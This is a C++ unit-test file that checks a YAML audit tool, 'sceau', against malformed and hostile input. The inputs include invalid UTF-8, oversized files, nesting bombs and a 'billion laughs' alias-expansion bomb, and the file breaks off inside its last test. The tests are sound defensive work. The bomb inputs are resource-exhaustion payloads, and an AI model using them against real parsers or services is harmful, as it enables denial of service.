// Hostile input, end to end: each test feeds `sceau validate`, `sceau check` or `sceau audit` one
// kind of broken, malicious or unlucky input, and checks that it gets a clear diagnostic (its code,
// the key part of its message, its position) and that nothing was written: the --out folder keeps
// exactly the earlier report it held, byte for byte. The last test kills `sceau audit` while it
// writes its reports.
//
// The binary runs in a forked child so that a test can drop root's privileges (as uid/gid 65534),
// set a file-size limit, and kill it after a deadline: nothing here may hang.
#include <fcntl.h>
#include <fmt/format.h>
#include <grp.h>
#include <gtest/gtest.h>
#include <signal.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <chrono>
#include <cstdlib>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <map>
#include <nlohmann/json.hpp>
#include <set>
#include <string>
#include <thread>
#include <vector>

#include "tests/test_util.h"

namespace sceau {
namespace {

namespace fs = std::filesystem;
using testing::ReadFile;
using testing::SourcePath;
using testing::TempDir;

constexpr uid_t kNobody = 65534;
const char kEarlier[] = "earlier report, kept byte for byte";

// ---- running the binary ------------------------------------------------------------------------

struct RunOptions {
  bool unprivileged = false;       // as uid and gid 65534 with no groups, when run by root
  long long file_size_limit = -1;  // RLIMIT_FSIZE in bytes; -1: none
  bool ignore_sigxfsz = false;  // past the limit, write() fails (EFBIG) instead of a SIGXFSZ kill
  int timeout_seconds = 20;     // then SIGKILL: a hang is a failure, never a stuck test run
};

struct Ran {
  int exit_code = -1;  // -1 when the process did not exit by itself
  int signal = 0;      // the signal that ended it, if any
  bool timed_out = false;
  std::string out;
  std::string err;
};

// `sceau ARGS...` started from the source directory in a child process.
class Sceau {
 public:
  explicit Sceau(const std::vector<std::string>& args, RunOptions options = {})
      : options_(options), start_(std::chrono::steady_clock::now()) {
    std::vector<std::string> argv_strings = {SCEAU_BINARY};
    argv_strings.insert(argv_strings.end(), args.begin(), args.end());
    std::vector<char*> argv;
    for (std::string& a : argv_strings) argv.push_back(a.data());
    argv.push_back(nullptr);
    std::string out = io_.path() + "/out";
    std::string err = io_.path() + "/err";
    // Made before the fork: a process killed before it opens them has empty ones to read.
    for (const std::string& f : {out, err}) {
      int fd = ::open(f.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
      if (fd >= 0) ::close(fd);
    }
    pid_ = ::fork();
    if (pid_ != 0) return;
    // The child: only system calls from here to exec.
    int in_fd = ::open("/dev/null", O_RDONLY);
    int out_fd = ::open(out.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0644);
    int err_fd = ::open(err.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (in_fd < 0 || out_fd < 0 || err_fd < 0) ::_exit(125);
    ::dup2(in_fd, 0);
    ::dup2(out_fd, 1);
    ::dup2(err_fd, 2);
    if (::chdir(SCEAU_SOURCE_DIR) != 0) ::_exit(125);
    if (options.file_size_limit >= 0) {
      struct rlimit rl = {static_cast<rlim_t>(options.file_size_limit),
                          static_cast<rlim_t>(options.file_size_limit)};
      if (::setrlimit(RLIMIT_FSIZE, &rl) != 0) ::_exit(125);
    }
    ::signal(SIGXFSZ, options.ignore_sigxfsz ? SIG_IGN : SIG_DFL);
    if (options.unprivileged && ::geteuid() == 0) {
      if (::setgroups(0, nullptr) != 0 || ::setresgid(kNobody, kNobody, kNobody) != 0 ||
          ::setresuid(kNobody, kNobody, kNobody) != 0) {
        static const char kMsg[] = "cannot drop privileges\n";
        (void)!::write(2, kMsg, sizeof(kMsg) - 1);
        ::_exit(126);
      }
    }
    ::execv(argv[0], argv.data());
    ::_exit(127);
  }

  pid_t pid() const { return pid_; }

  // Waits for the end, killing the process at the deadline.
  Ran Wait() {
    Ran r;
    if (pid_ < 0) {
      ADD_FAILURE() << "fork failed";
      return r;
    }
    int status = 0;
    auto deadline = start_ + std::chrono::seconds(options_.timeout_seconds);
    for (;;) {
      pid_t done = ::waitpid(pid_, &status, WNOHANG);
      if (done == pid_) break;
      if (done < 0) {
        ADD_FAILURE() << "waitpid: " << std::strerror(errno);
        return r;
      }
      if (std::chrono::steady_clock::now() > deadline) {
        r.timed_out = true;
        ::kill(pid_, SIGKILL);
        ::waitpid(pid_, &status, 0);
        break;
      }
      std::this_thread::sleep_for(std::chrono::milliseconds(2));
    }
    if (WIFEXITED(status)) r.exit_code = WEXITSTATUS(status);
    if (WIFSIGNALED(status)) r.signal = WTERMSIG(status);
    r.out = ReadFile(io_.path() + "/out");
    r.err = ReadFile(io_.path() + "/err");
    return r;
  }

 private:
  TempDir io_;
  RunOptions options_;
  std::chrono::steady_clock::time_point start_;
  pid_t pid_ = -1;
};

Ran Exec(const std::vector<std::string>& args, RunOptions options = {}) {
  Ran r = Sceau(args, options).Wait();
  EXPECT_FALSE(r.timed_out) << "sceau did not finish within " << options.timeout_seconds << " s";
  return r;
}

// Whether a child can run as uid 65534 and still execute the binary: root can drop privileges,
// and anyone else is unprivileged already.
bool CanRunUnprivileged() {
  RunOptions o;
  o.unprivileged = true;
  Ran r = Sceau({"--version"}, o).Wait();
  return r.exit_code == 0;
}

// ---- inputs and outputs ------------------------------------------------------------------------

std::string Source(const std::string& relative) { return ReadFile(SourcePath(relative)); }

// `text` with the first `from` replaced by `to`; fails the test when `from` is not there.
std::string Replace(std::string text, const std::string& from, const std::string& to) {
  size_t at = text.find(from);
  EXPECT_NE(at, std::string::npos) << "no '" << from.substr(0, 80) << "' to replace";
  if (at != std::string::npos) text.replace(at, from.size(), to);
  return text;
}

// "LINE:COLUMN" of byte `offset` of `text`, as sceau counts them: 1-based, columns in code points.
std::string Position(const std::string& text, size_t offset) {
  int line = 1;
  size_t line_start = 0;
  for (size_t i = 0; i < offset && i < text.size(); ++i) {
    if (text[i] == '\n') {
      ++line;
      line_start = i + 1;
    }
  }
  int column = 1;
  for (size_t i = line_start; i < offset; ++i) {
    if ((static_cast<unsigned char>(text[i]) & 0xC0) != 0x80) ++column;
  }
  return fmt::format("{}:{}", line, column);
}

// Where `needle` (the n-th one, from 0) starts in `text`.
size_t Offset(const std::string& text, const std::string& needle, int nth = 0) {
  size_t at = text.find(needle);
  for (int i = 0; i < nth && at != std::string::npos; ++i) at = text.find(needle, at + 1);
  EXPECT_NE(at, std::string::npos) << "no '" << needle.substr(0, 80) << "'";
  return at;
}

std::vector<std::string> Names(const std::string& dir) {
  std::vector<std::string> names;
  for (const auto& e : fs::directory_iterator(dir)) names.push_back(e.path().filename().string());
  std::sort(names.begin(), names.end());
  return names;
}

// An --out folder that already holds an earlier report, `<stem>.json`.
class OutFolder {
 public:
  explicit OutFolder(const std::string& stem) : path_(dir_.path() + "/out"), name_(stem + ".json") {
    fs::create_directory(path_);
    dir_.Write("out/" + name_, kEarlier);
  }
  const std::string& path() const { return path_; }
  // Lets uid 65534 in: it could write here if sceau tried to.
  void OpenToAll() const {
    fs::permissions(dir_.path(), fs::perms(0755));
    fs::permissions(path_, fs::perms(0777));
  }
  // Nothing was written: the earlier report alone, with its bytes.
  ::testing::AssertionResult Untouched() const {
    std::vector<std::string> names = Names(path_);
    if (names != std::vector<std::string>{name_}) {
      std::string list;
      for (const std::string& n : names) list += " " + n;
      return ::testing::AssertionFailure() << "the out folder holds:" << list;
    }
    if (ReadFile(path_ + "/" + name_) != kEarlier) {
      return ::testing::AssertionFailure() << name_ << " changed";
    }
    return ::testing::AssertionSuccess();
  }

 private:
  TempDir dir_;
  std::string path_;
  std::string name_;
};

// `sceau audit DOSSIER` against the test referentials, into `out`: must exit 1 with
// "no report written" and leave `out` untouched.
void ExpectAuditWritesNothing(const std::string& dossier, const std::string& stem,
                              RunOptions options = {}) {
  OutFolder out(stem);
  if (options.unprivileged) out.OpenToAll();
  Ran r = Exec({"audit", dossier, "--referentials", "tests/data/referentials", "--out", out.path()},
               options);
  EXPECT_EQ(r.exit_code, 1) << r.err.substr(0, 2000);
  EXPECT_EQ(r.out, "");
  EXPECT_NE(r.err.find(dossier + ": 1 error(s), 0 warning(s): no report written\n"),
            std::string::npos)
      << r.err.substr(0, 2000);
  EXPECT_TRUE(out.Untouched());
}

// `sceau check DOSSIER` against the test referentials.
Ran Check(const std::string& dossier, RunOptions options = {}) {
  return Exec({"check", dossier, "--referentials", "tests/data/referentials"}, options);
}

bool Contains(const std::string& haystack, const std::string& needle) {
  return haystack.find(needle) != std::string::npos;
}

// ---- one test per hostile input ----------------------------------------------------------------

TEST(Hostile, InvalidUtf8IsRefusedWithItsByteOffset) {
  TempDir dir;
  // "Référentiel" with a Latin-1 é (0xE9), as an editor set to Windows-1252 would save it.
  std::string ref = Source("tests/data/referentials/minimal.yaml");
  size_t bad = Offset(ref, "Référentiel d'exemple") + 1;
  ref.replace(bad, 2, "\xE9");
  std::string ref_path = dir.Write("latin1.yaml", ref);
  Ran r = Exec({"validate", ref_path});
  EXPECT_EQ(r.exit_code, 1);
  EXPECT_EQ(r.out, "");
  EXPECT_EQ(r.err.substr(0, r.err.find('\n') + 1),
            fmt::format("{}:{}: error: invalid UTF-8 byte 0xE9 at byte offset {}: the file must be "
                        "UTF-8 text [invalid-utf8]\n",
                        ref_path, Position(ref, bad), bad));
  EXPECT_TRUE(Contains(r.err, "| title: {fr: R?f")) << r.err;  // the bad byte is not echoed raw

  // In a dossier: a stray 0xFF, then a NUL byte (a control character, not text).
  std::string dossier = Source("tests/data/dossiers/ok.yaml");
  std::string with_ff = Replace(dossier, "Atelier Essai", "Atelier\xFF Essai");
  size_t ff = Offset(with_ff, "\xFF");
  std::string d_path = dir.Write("d.yaml", with_ff);
  r = Check(d_path);
  EXPECT_EQ(r.exit_code, 1);
  EXPECT_TRUE(
      Contains(r.err, fmt::format("{}:{}: error: invalid UTF-8 byte 0xFF at byte offset {}: "
                                  "the file must be UTF-8 text [invalid-utf8]\n",
                                  d_path, Position(with_ff, ff), ff)))
      << r.err;
  ExpectAuditWritesNothing(d_path, "d");

  std::string with_nul = Replace(dossier, "Atelier Essai", std::string("Atelier\0Essai", 13));
  size_t nul = Offset(with_nul, std::string(1, '\0'));
  std::string n_path = dir.Write("n.yaml", with_nul);
  r = Check(n_path);
  EXPECT_EQ(r.exit_code, 1);
  EXPECT_TRUE(Contains(r.err, fmt::format("{}:{}: error: control character 0x00 at byte offset {}: "
                                          "the file must be UTF-8 text [invalid-utf8]\n",
                                          n_path, Position(with_nul, nul), nul)))
      << r.err;
}

TEST(Hostile, AByteOrderMarkIsAcceptedAndPositionsStayRight) {
  TempDir dir;
  std::string bom = "\xEF\xBB\xBF";
  // An error on line 1 (where a BOM would shift the column) and the usual ones further down.
  std::string broken = "wieght: 2\n" + Source("tests/data/referentials/broken.yaml");
  std::string plain_path = dir.Write("plain.yaml", broken);
  std::string bom_path = dir.Write("bom.yaml", bom + broken);
  Ran plain = Exec({"validate", plain_path});
  Ran with_bom = Exec({"validate", bom_path});
  EXPECT_EQ(with_bom.exit_code, 1);
  EXPECT_TRUE(Contains(with_bom.err, bom_path + ":1:1: error: unknown key 'wieght'"))
      << with_bom.err;
  EXPECT_TRUE(Contains(with_bom.err, bom_path + ":20:5: error: unknown key 'wieght' in criterion"))
      << with_bom.err;
  // Exactly what the same file without the BOM gives: positions, quoted lines and carets.
  std::string expected = plain.err;
  for (size_t at; (at = expected.find(plain_path)) != std::string::npos;) {
    expected.replace(at, plain_path.size(), bom_path);
  }
  EXPECT_EQ(with_bom.err, expected);

  std::string ok_path =
      dir.Write("ok-bom.yaml", bom + Source("tests/data/referentials/minimal.yaml"));
  Ran ok = Exec({"validate", ok_path});
  EXPECT_EQ(ok.exit_code, 0) << ok.err;
  EXPECT_TRUE(Contains(ok.out, ok_path + ": ok: exemple-minimal 2026.1")) << ok.out;

  // A dossier with a BOM checks and audits as without.
  std::string d_path = dir.Write("d.yaml", bom + Source("tests/data/dossiers/ok.yaml"));
  EXPECT_EQ(Check(d_path).exit_code, 0);
  TempDir out;
  Ran audit =
      Exec({"audit", d_path, "--referentials", "tests/data/referentials", "--out", out.path()});
  EXPECT_EQ(audit.exit_code, 0) << audit.err;
  EXPECT_EQ(Names(out.path()), (std::vector<std::string>{"d.csv", "d.json", "d.pdf"}));
}

TEST(Hostile, InvalidUtf8AfterAByteOrderMarkGivesTheFileByteOffset) {
  // BUG: the loaders strip the BOM before checking UTF-8 (engine/referential_loader.cc and
  // engine/dossier_loader.cc, `text.erase(0, 3)`), so the "byte offset" in the message counts from
  // after the BOM: 3 less than the offset in the file, where `xxd`/`cmp` will look.
  // Repro: printf '\xEF\xBB\xBFid: x\nversion: "1"\ntitle: caf\xe9\n' > b.yaml; sceau validate
  // b.yaml
  //   -> "b.yaml:3:11: error: invalid UTF-8 byte 0xE9 at byte offset 29" (the byte is at 32).
  TempDir dir;
  std::string text = "\xEF\xBB\xBFid: x\nversion: \"1\"\ntitle: caf\xE9\n";
  std::string path = dir.Write("b.yaml", text);
  Ran r = Exec({"validate", path});
  EXPECT_EQ(r.exit_code, 1);
  EXPECT_TRUE(Contains(r.err, path + ":3:11: error: invalid UTF-8 byte 0xE9 at byte offset 32: "
                                     "the file must be UTF-8 text [invalid-utf8]"))
      << r.err;
}

TEST(Hostile, CrlfLineEndsAreAccepted) {
  TempDir dir;
  auto crlf = [](std::string text) {
    for (size_t at = 0; (at = text.find('\n', at)) != std::string::npos; at += 2)
      text.insert(at, "\r");
    return text;
  };
  std::string ok_path = dir.Write("ok.yaml", crlf(Source("tests/data/referentials/minimal.yaml")));
  Ran ok = Exec({"validate", ok_path});
  EXPECT_EQ(ok.exit_code, 0) << ok.err;
  EXPECT_EQ(ok.err, "");

  // Positions, quoted lines (no stray \r) and carets as with LF.
  std::string broken = Source("tests/data/referentials/broken.yaml");
  std::string lf_path = dir.Write("lf.yaml", broken);
  std::string crlf_path = dir.Write("crlf.yaml", crlf(broken));
  Ran lf = Exec({"validate", lf_path});
  Ran r = Exec({"validate", crlf_path});
  EXPECT_EQ(r.exit_code, 1);
  std::string expected = lf.err;
  for (size_t at; (at = expected.find(lf_path)) != std::string::npos;) {
    expected.replace(at, lf_path.size(), crlf_path);
  }
  EXPECT_EQ(r.err, expected);
  EXPECT_EQ(r.err.find('\r'), std::string::npos);

  // A dossier with CRLF and a multi-line finding: the finding's lines end in \n alone.
  std::string dossier =
      Replace(Source("tests/data/dossiers/ok.yaml"),
              "C-1.2: {grade: PS, finding: \"=Livret à mettre à jour (version 2023).\"}",
              "C-1.2:\n    grade: PS\n    finding: |\n      Ligne un\n      Ligne deux\n");
  std::string d_path = dir.Write("d.yaml", crlf(dossier));
  TempDir out;
  Ran audit =
      Exec({"audit", d_path, "--referentials", "tests/data/referentials", "--out", out.path()});
  EXPECT_EQ(audit.exit_code, 0) << audit.err;
  nlohmann::json result = nlohmann::json::parse(ReadFile(out.path() + "/d.json"));
  bool found = false;
  for (const auto& a : result["actions"]) {
    if (a["criterion"] == "C-1.2") {
      found = true;
      EXPECT_EQ(a["finding"], "Ligne un\nLigne deux\n");
    }
  }
  EXPECT_TRUE(found) << result["actions"].dump();
}

TEST(Hostile, TabsInIndentationAreRefusedWithTheirPosition) {
  TempDir dir;
  std::string ref = Source("tests/data/referentials/minimal.yaml");
  std::string tabbed = Replace(ref, "\n    chapter: \"1\"\n    title: {fr: Procédure",
                               "\n\t  chapter: \"1\"\n    title: {fr: Procédure");
  size_t tab = Offset(tabbed, "\t");
  std::string path = dir.Write("tabs.yaml", tabbed);
  Ran r = Exec({"validate", path});
  EXPECT_EQ(r.exit_code, 1);
  EXPECT_EQ(
      r.err.substr(0, r.err.find('\n') + 1),
      fmt::format(
          "{}:{}: error: YAML syntax error: a tab in the indentation; YAML indents with spaces "
          "[yaml-syntax]\n",
          path, Position(tabbed, tab)));

  // In a dossier, yaml-cpp words it differently, but the position is the tabbed line.
  std::string dossier = Replace(Source("tests/data/dossiers/ok.yaml"), "  C-2.1:\n    grade: C",
                                "  C-2.1:\n\t  grade: C");
  std::string pos = Position(dossier, Offset(dossier, "\t"));
  std::string line = pos.substr(0, pos.find(':'));
  std::string d_path = dir.Write("d.yaml", dossier);
  r = Check(d_path);
  EXPECT_EQ(r.exit_code, 1);
  EXPECT_TRUE(Contains(r.err, d_path + ":" + line + ":")) << r.err;
  EXPECT_TRUE(
      Contains(r.err,
               "error: YAML syntax error: a tab in the indentation; YAML indents with spaces "
               "[yaml-syntax]\n"))
      << r.err;
  ExpectAuditWritesNothing(d_path, "d");
  // A tab that is not indentation (before a comment, after a colon) is fine.
  std::string fine = Replace(Source("tests/data/dossiers/ok.yaml"), "  name: Atelier Essai",
                             "  name:\tAtelier Essai\t# tab");
  EXPECT_EQ(Check(dir.Write("fine.yaml", fine)).exit_code, 0);
}

TEST(Hostile, AMegabyteLineIsHandledAndQuotedAsAWindow) {
  TempDir dir;
  std::string y(1u << 20, 'y');
  std::string ref = Replace(Source("tests/data/referentials/minimal.yaml"),
                            "title: {fr: Procédure d'accueil, en: Reception procedure}",
                            "title: {fr: \"" + y + "\", en: Reception procedure, EN: x}");
  size_t key = Offset(ref, "EN: x");
  std::string path = dir.Write("long.yaml", ref);
  RunOptions o;
  o.timeout_seconds = 20;
  Ran r = Exec({"validate", path}, o);
  EXPECT_EQ(r.exit_code, 1);
  EXPECT_TRUE(Contains(r.err, fmt::format("{}:{}: error: 'EN' in ", path, Position(ref, key))))
      << r.err.substr(0, 2000);
  EXPECT_TRUE(Contains(r.err,
                       "is not a language code: use two lowercase letters such as 'fr' or "
                       "'en' [bad-language]\n"))
      << r.err.substr(0, 2000);
  EXPECT_LT(r.err.size(), 2000u);  // the line is quoted as a window around the column
  EXPECT_TRUE(Contains(r.err, "...")) << r.err;

  // A dossier with a finding of 1 MiB on one line is fine.
  std::string dossier =
      Replace(Source("tests/data/dossiers/ok.yaml"), "=Livret à mettre à jour (version 2023).", y);
  Ran c = Check(dir.Write("d.yaml", dossier), o);
  EXPECT_EQ(c.exit_code, 0) << c.err.substr(0, 2000);
}

TEST(Hostile, ATwoMegabyteFindingIsReportedInFull) {
  TempDir dir;
  std::string words;
  while (words.size() < (2u << 20)) words += "constat répété ";
  std::string dossier = Replace(Source("tests/data/dossiers/ok.yaml"),
                                "=Livret à mettre à jour (version 2023).", words);
  std::string path = dir.Write("d.yaml", dossier);
  TempDir out;
  Ran r = Exec({"audit", path, "--referentials", "tests/data/referentials", "--out", out.path()});
  ASSERT_FALSE(r.timed_out);
  ASSERT_EQ(r.exit_code, 0) << r.err.substr(0, 2000);
  nlohmann::json result = nlohmann::json::parse(ReadFile(out.path() + "/d.json"));
  ASSERT_EQ(result["actions"].size(), 1u);
  EXPECT_TRUE(result["actions"][0]["finding"] == words);
  EXPECT_TRUE(Contains(ReadFile(out.path() + "/d.csv"), words));
  std::string cmd = "qpdf --check '" + out.path() + "/d.pdf' >/dev/null 2>&1";
  EXPECT_EQ(std::system(cmd.c_str()), 0) << cmd;
}

TEST(Hostile, AnEmptyFileIsRefused) {
  TempDir dir;
  for (const char* text : {"", "\n  \n\n", "# nothing but a comment\n"}) {
    std::string ref = dir.Write("r.yaml", text);
    Ran r = Exec({"validate", ref});
    EXPECT_EQ(r.exit_code, 1);
    EXPECT_TRUE(Contains(r.err, ref + ":1:1: error: the file is empty: a referential starts with "
                                      "'id', 'version' and 'title' [empty-file]\n"))
        << r.err;
    std::string d = dir.Write("d.yaml", text);
    r = Check(d);
    EXPECT_EQ(r.exit_code, 1);
    EXPECT_TRUE(Contains(r.err, d + ":1:1: error: the file is empty: a dossier starts with "
                                    "'referential', 'organisation' and 'audit' [empty-file]\n"))
        << r.err;
    ExpectAuditWritesNothing(d, "d");
  }
}

TEST(Hostile, ADirectoryGivenAsTheFileIsRefused) {
  TempDir dir;
  fs::create_directory(dir.path() + "/d.yaml");
  std::string d = dir.path() + "/d.yaml";
  Ran r = Exec({"validate", d});
  EXPECT_EQ(r.exit_code, 1);
  EXPECT_EQ(r.err, d + ": error: is a directory, not a file [io-error]\n"
                       "1 error and 0 warnings in 1 invalid file of 1 file\n");
  r = Check(d);
  EXPECT_EQ(r.exit_code, 1);
  EXPECT_EQ(r.err, d + ": error: is a directory, not a file [io-error]\n" + d +
                       ": 1 error(s) and 0 warning(s)\n");
  ExpectAuditWritesNothing(d, "d");
}

TEST(Hostile, AFileGivenAsTheOutputFolderIsReported) {
  TempDir dir;
  std::string not_a_folder = dir.Write("out", kEarlier);
  Ran r = Exec({"audit", "tests/data/dossiers/ok.yaml", "--referentials", "tests/data/referentials",
                "--out", not_a_folder});
  EXPECT_EQ(r.exit_code, 1);
  EXPECT_EQ(r.out, "");
  EXPECT_EQ(r.err, "sceau audit: cannot create the folder " + not_a_folder + ": Not a directory\n");
  EXPECT_EQ(ReadFile(not_a_folder), kEarlier);
  EXPECT_EQ(Names(dir.path()), std::vector<std::string>{"out"});
}

TEST(Hostile, AnUnreadableFileIsRefused) {
  if (!CanRunUnprivileged()) GTEST_SKIP() << "cannot run sceau as uid 65534 here";
  TempDir dir;
  fs::permissions(dir.path(), fs::perms(0755));
  std::string ref = dir.Write("r.yaml", Source("tests/data/referentials/minimal.yaml"));
  std::string d = dir.Write("d.yaml", Source("tests/data/dossiers/ok.yaml"));
  fs::permissions(ref, fs::perms::none);
  fs::permissions(d, fs::perms::none);
  RunOptions o;
  o.unprivileged = true;
  Ran r = Exec({"validate", ref}, o);
  EXPECT_EQ(r.exit_code, 1);
  EXPECT_EQ(r.err, ref +
                       ": error: cannot open file: Permission denied [io-error]\n"
                       "1 error and 0 warnings in 1 invalid file of 1 file\n");
  r = Check(d, o);
  EXPECT_EQ(r.exit_code, 1);
  EXPECT_EQ(r.err, d + ": error: cannot open file: Permission denied [io-error]\n" + d +
                       ": 1 error(s) and 0 warning(s)\n");
  ExpectAuditWritesNothing(d, "d", o);
}

TEST(Hostile, AnUnreadableReferentialInTheFolderIsReported) {
  // A file of the folder that cannot be read is named, with why, in the "no referential" error.
  if (!CanRunUnprivileged()) GTEST_SKIP() << "cannot run sceau as uid 65534 here";
  TempDir dir;
  fs::permissions(dir.path(), fs::perms(0755));
  std::string ref = dir.Write("minimal.yaml", Source("tests/data/referentials/minimal.yaml"));
  fs::permissions(ref, fs::perms::none);
  RunOptions o;
  o.unprivileged = true;
  Ran r = Exec({"check", "tests/data/dossiers/ok.yaml", "--referentials", dir.path()}, o);
  EXPECT_EQ(r.exit_code, 1);
  EXPECT_TRUE(Contains(
      r.err, "files that could not be read: " + ref + ": cannot open file: Permission denied"))
      << r.err;
}

TEST(Hostile, AFileOverTheSizeLimitIsRefused) {
  TempDir dir;
  // 65 MiB, sparse: a valid start, then holes.
  std::string path = dir.Write("big.yaml", "id: x\nversion: \"1\"\n");
  fs::resize_file(path, 65u << 20);
  Ran r = Exec({"validate", path});
  EXPECT_EQ(r.exit_code, 1);
  EXPECT_EQ(r.err, path +
                       ": error: file is 68157440 bytes, over the limit of 67108864 bytes "
                       "[file-too-large]\n1 error and 0 warnings in 1 invalid file of 1 file\n");
  r = Check(path);
  EXPECT_EQ(r.exit_code, 1);
  EXPECT_TRUE(Contains(r.err, path + ": error: file is 68157440 bytes, over the limit of 67108864 "
                                     "bytes [file-too-large]\n"))
      << r.err;
  ExpectAuditWritesNothing(path, "big");
}

TEST(Hostile, NestingBombsAreRefused) {
  TempDir dir;
  // A megabyte of nested brackets, closed: the root map is level 1, so the 64th bracket is one
  // level too deep.
  std::string closed = "k: " + std::string(512u << 10, '[') + std::string(512u << 10, ']') + "\n";
  std::string path = dir.Write("closed.yaml", closed);
  Ran r = Exec({"validate", path});
  EXPECT_EQ(r.exit_code, 1);
  EXPECT_EQ(r.err.substr(0, r.err.find('\n') + 1),
            fmt::format("{}:{}: error: nesting deeper than 64 levels [too-deep]\n", path,
                        Position(closed, 3 + 63)));
  EXPECT_LT(r.err.size(), 2000u);
  // Never closed.
  std::string open = std::string(1u << 20, '[');
  path = dir.Write("open.yaml", open);
  r = Exec({"validate", path});
  EXPECT_EQ(r.exit_code, 1);
  EXPECT_TRUE(Contains(r.err, path + ":1:")) << r.err.substr(0, 2000);
  EXPECT_TRUE(Contains(r.err, ": error: nesting deeper than 64 levels [too-deep]\n")) << r.err;

  // In a dossier: root map, `assessments`, the flow map of C-1.2, then the brackets.
  std::string nested = std::string(1000, '[') + std::string(1000, ']');
  std::string dossier = Replace(Source("tests/data/dossiers/ok.yaml"),
                                "\"=Livret à mettre à jour (version 2023).\"", nested);
  std::string d = dir.Write("d.yaml", dossier);
  r = Check(d);
  EXPECT_EQ(r.exit_code, 1);
  EXPECT_TRUE(
      Contains(r.err, fmt::format("{}:{}: error: nesting deeper than 64 levels [too-deep]\n", d,
                                  Position(dossier, Offset(dossier, "[[[") + 61))))
      << r.err;
  ExpectAuditWritesNothing(d, "d");
}

TEST(Hostile, AliasBombsAreRefused) {
  TempDir dir;
  // "Billion laughs": each line holds ten aliases of the one before. Line 7 (g) would expand to
  // 11,111,111 nodes; the 4th alias on it takes the total past 5,000,000.
  std::string bomb = "a: &a [x, x, x, x, x, x, x, x, x, x]\n";
  for (char c = 'b'; c <= 'l'; ++c) {
    bomb += fmt::format("{}: &{} [", c, c);
    for (int i = 0; i < 10; ++i)
      bomb += fmt::format("{}*{}", i ? ", " : "", static_cast<char>(c - 1));
    bomb += "]\n";
  }
  std::string path = dir.Write("bomb.yaml", bomb);
  Ran r = Exec({"validate", path});
  EXPECT_EQ(r.exit_code, 1);
  EXPECT_EQ(r.err.substr(0, r.err.find('\n') + 1),
            fmt::format("{}:{}: error: the document expands to more than 5000000 nodes (aliases "
                        "included); refusing to go on [too-many-nodes]\n",
                        path, Position(bomb, Offset(bomb, "*f", 3))));
  std::string loop = dir.Write("loop.yaml", "a: &a [1, *a]\n");
  r = Exec({"validate", loop});
  EXPECT_EQ(r.exit_code, 1);
  EXPECT_TRUE(Contains(r.err, loop + ":1:11: error: an alias may not refer to a node that contains "
                                     "it [recursive-alias]\n"))
      << r.err;

  // In a dossier, ahead of everything else.
  std::string dossier = bomb + Source("tests/data/dossiers/ok.yaml");
  std::string d = dir.Write("d.yaml", dossier);
  r = Check(d);
  EXPECT_EQ(r.exit_code, 1);
  EXPECT_TRUE(Contains(r.err, fmt::format("{}:{}: error: the document expands to more than 5000000 "
                                          "nodes",
                                          d, Position(bomb, Offset(bomb, "*f", 3)))))
      << r.err;
  ExpectAuditWritesNothing(d, "d");
}

TEST(Hostile, NumbersOutOfRangeAreRefused) {
  TempDir dir;
  std::string ref = Source("tests/data/referentials/minimal.yaml");
  std::vector<std::string> paths;
  std::vector<std::string> expected;
  const std::map<std::string, std::string> kWhy = {{".nan", "must be a finite number, not .nan"},
                                                   {".inf", "must be a finite number, not .inf"},
                                                   {"-.inf", "must be a finite number, not -.inf"},
                                                   {"1e400", "is out of range: 1e400"}};
  for (const auto& [value, why] : kWhy) {
    std::string text = Replace(ref, "    weight: 2\n", "    weight: " + value + "\n");
    std::string path = dir.Write("w" + std::to_string(paths.size()) + ".yaml", text);
    paths.push_back(path);
    expected.push_back(fmt::format("{}:{}: error: 'weight' of chapter '2' {} [bad-number]\n", path,
                                   Position(text, Offset(text, "weight: " + value) + 8), why));
  }
  std::vector<std::string> args = {"validate"};
  args.insert(args.end(), paths.begin(), paths.end());
  Ran r = Exec(args);
  EXPECT_EQ(r.exit_code, 1);
  for (const std::string& e : expected) EXPECT_TRUE(Contains(r.err, e)) << e << "\n" << r.err;
  EXPECT_TRUE(Contains(r.err, "4 errors and 0 warnings in 4 invalid files of 4 files\n")) << r.err;

  // As an indicator value in a dossier.
  std::string dossier = Source("tests/data/dossiers/ok.yaml");
  for (const auto& [value, why] : kWhy) {
    std::string text =
        Replace(dossier, "taux-sorties-dynamiques: 55", "taux-sorties-dynamiques: " + value);
    std::string d = dir.Write("d.yaml", text);
    r = Check(d);
    EXPECT_EQ(r.exit_code, 1);
    EXPECT_TRUE(
        Contains(r.err, fmt::format("{}:{}: error: indicator 'taux-sorties-dynamiques' of the "
                                    "assessment of 'C-2.2' {} [bad-number]\n",
                                    d, Position(text, Offset(text, value + "}")), why)))
        << r.err;
    ExpectAuditWritesNothing(d, "d");
  }
}

TEST(Hostile, EveryYamlSpellingOfNanAndInfinityIsABadNumber) {
  // BUG: YamlReader::Number (engine/yaml_reader.cc) names only .nan, .NaN, .inf, -.inf and .Inf.
  // The other YAML 1.2 spellings (.NAN, .INF, +.inf, +.Inf, -.Inf, -.INF...) get "must be a number,
  // not a string [wrong-type]": refused, but with the wrong code and a confusing message.
  // Repro: in tests/data/referentials/minimal.yaml, set chapter 2's `weight: .NAN`, then
  //   sceau validate FILE -> "'weight' of chapter '2' must be a number, not a string [wrong-type]".
  TempDir dir;
  std::string ref = Source("tests/data/referentials/minimal.yaml");
  for (const char* value : {".NAN", ".INF", "+.inf", "+.Inf", "-.Inf", "-.INF"}) {
    std::string path = dir.Write(
        "w.yaml", Replace(ref, "    weight: 2\n", std::string("    weight: ") + value + "\n"));
    Ran r = Exec({"validate", path});
    EXPECT_EQ(r.exit_code, 1);
    EXPECT_TRUE(
        Contains(r.err, std::string("'weight' of chapter '2' must be a finite number, not ") +
                            value + " [bad-number]"))
        << r.err;
  }
}

TEST(Hostile, ANumberWithUnderscoresGetsAMessageThatMakesSense) {
  // BUG: `weight: 1_000` (a YAML 1.1 spelling) gets "'weight' of chapter '2' must be a number, not
  // a number [wrong-type]": DescribeNode (engine/yaml_reader.cc) calls it a number because
  // LooksNumeric accepts '_', while Number's from_chars does not.
  // Repro: set chapter 2's `weight: 1_000` in tests/data/referentials/minimal.yaml, then
  //   sceau validate FILE.
  TempDir dir;
  std::string path = dir.Write("w.yaml", Replace(Source("tests/data/referentials/minimal.yaml"),
                                                 "    weight: 2\n", "    weight: 1_000\n"));
  Ran r = Exec({"validate", path});
